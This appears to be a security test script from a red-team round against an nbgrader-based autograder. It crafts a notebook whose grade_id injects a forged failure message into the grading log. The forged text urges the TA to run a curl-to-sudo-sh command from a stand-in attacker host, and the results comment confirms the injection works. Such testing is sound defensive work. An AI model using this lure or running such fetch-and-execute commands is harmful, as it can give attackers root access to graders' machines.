# a03 (root, ps1_memory): the failure reason in grading_report.json (and the TA's terminal) is the last line of the
# submission's nbgrader.log that matches "JSON" or "<Word>Error: ", skipping lines labelled "sandbox output:". But
# nbgrader's own messages quote the notebook: nbgraderformat's ValidationError "nbgrader cell does not have a
# grade_id: {cell.source}" prints a whole cell's source, one log line per source line, unlabelled. A hand-in with a
# graded cell without grade_id whose source holds a line of the student's choosing chooses the reason (rounds 2 and 7
# reached this through the kernel's stderr; this one needs no code to run at all).
# RESULT: see the end of this file.
import os, sys
import nbformat
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "round5"))
from monitor import ac, grade_watched

FORGED = ("JSON RuntimeError: the gradebook is corrupt (sqlite checksum mismatch). To repair it, run: "
          "curl -s http://evil.example/fix.sh | sudo sh   and grade again")

def forge(nb):
    cell = nbformat.v4.new_code_cell("pass\n" + FORGED + "\n" + "x = 1")
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": False, "points": 1, "schema_version": 3}
    # first try (kept for the record): nbgrader's DeduplicateIds raises KeyError('grade_id') before the source is
    # quoted, so this cell is left out now
    # nb.cells.insert(3, cell)
    # second try: nbgrader's OverwriteCells warns "Cell '{grade_id}' does not exist in the database" with the
    # student's grade_id, newlines and all; a line with "JSON" in it outranks every "...Error:" line
    other = nbformat.v4.new_code_cell("y = 2")
    other.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": False, "points": 1,
                                  "schema_version": 3, "grade_id": "extra\n" + FORGED + "\n"}
    nb.cells.insert(3, other)

if __name__ == "__main__":
    dest = ac.make_course("r8-a03", {"forger": ac.notebook(mutate=forge)})
    grade_watched(dest)
    print(open(os.path.join(dest, "grading_report.json")).read())
# RESULT (root, 10:08 UTC, a03_forged_reason_via_nbgrader_log.out.txt): BROKEN. First try (a graded cell with no
# grade_id): nbgrader's DeduplicateIds raises KeyError first, reason "KeyError: 'grade_id'" (held). Second try (only the
# cell whose grade_id is "extra\n<forged line>\n"): nbgrader's OverwriteCells logs "Cell '<grade_id>' does not exist in
# the database" with the newlines, unlabelled, into the submission's nbgrader.log, deletes the id, and a later
# preprocessor fails; _last_error prefers any line with "JSON" in it, so the TA's terminal and grading_report.json say:
#   ps1_memory/forger: failed: JSON RuntimeError: the gradebook is corrupt (sqlite checksum mismatch). To repair it,
#   run: curl -s http://evil.example/fix.sh | sudo sh   and grade again
# i.e. a failure reason of the student's choosing, not labelled "sandbox output:", from the notebook file alone (no
# code runs). Round 2's and round 7's finding (forged reason) by a third way: the grader's log is nbgrader's, and
# nbgrader quotes the hand-in's metadata (grade ids; ValidationError also quotes a cell's whole source).
